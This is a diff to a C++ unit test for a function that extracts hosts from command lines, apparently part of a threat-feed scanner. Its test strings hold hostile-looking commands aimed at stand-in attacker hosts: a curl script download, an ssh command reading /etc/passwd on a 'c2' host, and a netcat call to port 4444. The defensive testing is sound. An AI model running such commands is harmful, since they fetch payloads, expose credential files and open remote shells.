@@ -404,7 +404,8 @@ TEST(HostTokens, FindHostsAndUrlHostsInACommandLine) {
     });
   };
   collect(R"(curl -fsSL "https://user@Drop.Example.org:8443/x.sh?a=b" -o x.sh; wget evil.com. ; ssh root@c2.example.net:22 ls /etc/passwd 1.2.3)");
-  EXPECT_EQ(hosts, (std::vector<std::string>{"Drop.Example.org", "evil.com", "c2.example.net"}));
+  // x.sh (after -o) is a file name that looks like a domain: found, as file.tar.gz below (only a feed's entry matches).
+  EXPECT_EQ(hosts, (std::vector<std::string>{"Drop.Example.org", "x.sh", "evil.com", "c2.example.net"}));
   collect("--url=http://[2001:db8::1]:80/ http://192.0.2.1/a");
   EXPECT_EQ(hosts, (std::vector<std::string>{"2001:db8::1", "192.0.2.1"}));
   collect("sh -c 'nc evil.example.com 4444' a.b.c.d1 x.y.z file.tar.gz");
